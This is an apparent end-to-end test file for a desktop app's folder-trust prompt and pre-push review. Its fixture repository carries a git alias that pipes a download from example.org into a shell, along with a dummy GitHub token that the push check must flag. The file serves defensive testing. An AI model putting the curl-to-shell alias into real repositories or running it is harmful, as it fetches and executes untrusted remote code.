/** A folder that nobody trusts yet, from the first look to a push: in the real window, on a real repository and a real server of git. */
import { chmodSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Locator } from 'playwright'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openDatabase } from '../src-main/engine/store/database'
import { createFacts } from '../src-main/engine/store/facts'
import { startGitHttpServer, type GitHttpServer } from '../src-main/engine/testing/git-http-server'
import { commitFiles, git } from '../src-main/engine/testing/git-world'
import { createProfile, startApp, type Profile, type RunningApp } from './app-fixture'

const token = `ghp_${'a1B2c3D4e5'.repeat(4)}`

describe('A folder of somebody else', () => {
  let root: string
  let work: string
  let server: GitHttpServer
  let profile: Profile
  let app: RunningApp

  beforeAll(async () => {
    root = realpathSync(mkdtempSync(join(tmpdir(), 'ffd-push-')))
    work = join(root, 'work')
    mkdirSync(work)
    server = await startGitHttpServer({ projectRoot: root })
    git(root, 'init', '-q', '--bare', '-b', 'main', 'remote.git')
    git(work, 'init', '-q', '-b', 'main')
    commitFiles(work, { 'demo/main.py': 'print("from the folder")\n', 'demo/pipeline.json': '{"enabled": false}\n', 'report/main.py': 'print(2)\n' }, 'first')
    git(work, 'remote', 'add', 'origin', join(root, 'remote.git'))
    git(work, 'push', '-q', '-u', 'origin', 'main')
    git(work, 'remote', 'set-url', 'origin', `${server.origin}/remote.git`)
    git(work, 'config', 'alias.deploy', '!curl https://example.org | sh')
    mkdirSync(join(work, '.git/hooks'), { recursive: true })
    writeFileSync(join(work, '.git/hooks/pre-commit'), '#!/bin/sh\nexit 0\n')
    chmodSync(join(work, '.git/hooks/pre-commit'), 0o755)
    profile = createProfile()
    const { database } = openDatabase(join(profile.userDataDir, 'history.db'))
    createFacts(database).rememberWorkspace(work)
    database.close()
    app = await startApp(profile, { engine: null })
  })
  afterAll(async () => {
    await app.close()
    await server.close()
    profile.remove()
    rmSync(root, { recursive: true, force: true })
  })

  const banner = (): Locator => app.page.window.getByRole('status', { name: 'Restricted' })
  const dialog = (name: string): Locator => app.page.window.getByRole('dialog', { name })
  const resize = (width: number): Promise<void> => app.electron.evaluate(({ BrowserWindow }, size) => void BrowserWindow.getAllWindows()[0]?.setContentSize(size, 700), width)
  const theme = (name: 'light' | 'dark'): Promise<unknown> => app.page.window.evaluate((value) => (globalThis as unknown as { bridge: { call(method: string, input: unknown): Promise<unknown> } }).bridge.call('settings.update', { patch: { theme: value } }), name)

  it('is looked at without a question, and says that it is restricted', async () => {
    await app.page.pipeline('demo').waitFor()
    await banner().waitFor()
    expect(await app.page.window.getByRole('dialog').count()).toBe(0)
    await app.page.screenshot('trust-banner')
  })

  it('asks at the first run, names what git would execute, and runs nothing after "Just look"', async () => {
    await app.page.select('report')
    await app.page.runButton().click()
    const question = dialog('Do you trust what is in this folder?')
    await question.waitFor()
    const text = (await question.textContent()) ?? ''
    for (const part of [work, 'alias.deploy', '!curl https://example.org | sh', 'pre-commit']) expect(text).toContain(part)
    for (const name of ['light', 'dark'] as const) {
      await theme(name)
      await app.page.screenshot(`trust-dialog-${name}`)
    }
    await theme('light')
    await question.getByRole('button', { name: 'Just look' }).click()
    await question.waitFor({ state: 'detached' })
    await banner().waitFor()
    expect(await app.page.history().count()).toBe(0)
  })

  it('is trusted once, and then runs', async () => {
    await app.page.window.keyboard.press('F5')
    await dialog('Do you trust what is in this folder?').getByRole('button', { name: 'Trust and run' }).click()
    await app.page.waitForOutcome('Succeeded')
    await banner().waitFor({ state: 'detached' })
    await app.page.runButton().click()
    await app.page.waitForOutcome('Succeeded')
    expect(await app.page.window.getByRole('dialog').count()).toBe(0)
  })

  it('shows before a push what the server would not do, at its line', async () => {
    commitFiles(work, {
      'demo/pipeline.json': '{"enabled": false,}\n',
      'demo/main.py': `print(3)\nKEY = "${token}"\n`,
      'report/pipeline.json': '{"schedule_cron": "0 9 * * 1-5", "secrets": ["DB_PASSWORD"]}\n',
    }, 'typo, token and schedule')
    await app.page.window.keyboard.press('ControlOrMeta+Shift+K')
    const gate = dialog('Push')
    await gate.getByRole('status').filter({ hasText: 'The server would not do what is meant' }).waitFor()
    const text = (await gate.textContent()) ?? ''
    for (const part of ['One commit that origin/main does not have', 'would enable a disabled pipeline', 'GitHub token', 'Tuesday', 'DB_PASSWORD']) expect(text).toContain(part)
    expect(text).not.toContain(token)
    for (const [name, width] of [['light', 1280], ['dark', 900], ['light', 760]] as const) {
      await theme(name)
      await resize(width)
      await app.page.screenshot(`push-gate-${name}-${width}`)
    }
    await resize(1280)
    await gate.getByRole('button', { name: 'Open demo/main.py:2' }).click()
    await app.page.window.getByRole('tab', { name: /^main\.py/ }).waitFor()
    expect(await app.page.window.getByRole('dialog').count()).toBe(0)
  })

  it('pushes in spite of it only when told so, and says what the server will do', async () => {
    await app.page.window.keyboard.press('ControlOrMeta+Shift+K')
    await dialog('Push').getByRole('button', { name: 'Push anyway' }).click()
    const after = dialog('Pushed: what the server will do now')
    await after.waitFor()
    expect(git(join(root, 'remote.git'), 'rev-parse', 'main')).toBe(git(work, 'rev-parse', 'HEAD'))
    const schedules = after.getByRole('list', { name: 'Schedules' })
    expect(await schedules.textContent()).toMatch(/Fires report 0 9 \* \* 1-5/)
    expect(await schedules.getByRole('row').count()).toBe(4)
    expect(await after.getByRole('list', { name: 'Pipelines' }).textContent()).toMatch(/changes demo.*changes report/)
    for (const [name, width] of [['light', 1280], ['dark', 760]] as const) {
      await theme(name)
      await resize(width)
      await app.page.screenshot(`push-done-${name}-${width}`)
    }
    await after.getByRole('button', { name: 'Close' }).click()
    await after.waitFor({ state: 'detached' })
  })

  it('has nothing to push afterwards', async () => {
    await app.page.window.keyboard.press('ControlOrMeta+Shift+K')
    await dialog('Push').getByText('Everything is on origin/main already.').waitFor()
    expect(await dialog('Push').getByRole('button', { name: 'Push', exact: true }).or(dialog('Push').getByRole('button', { name: 'Push anyway' })).isEnabled()).toBe(false)
    await app.page.window.keyboard.press('Escape')
  })
})
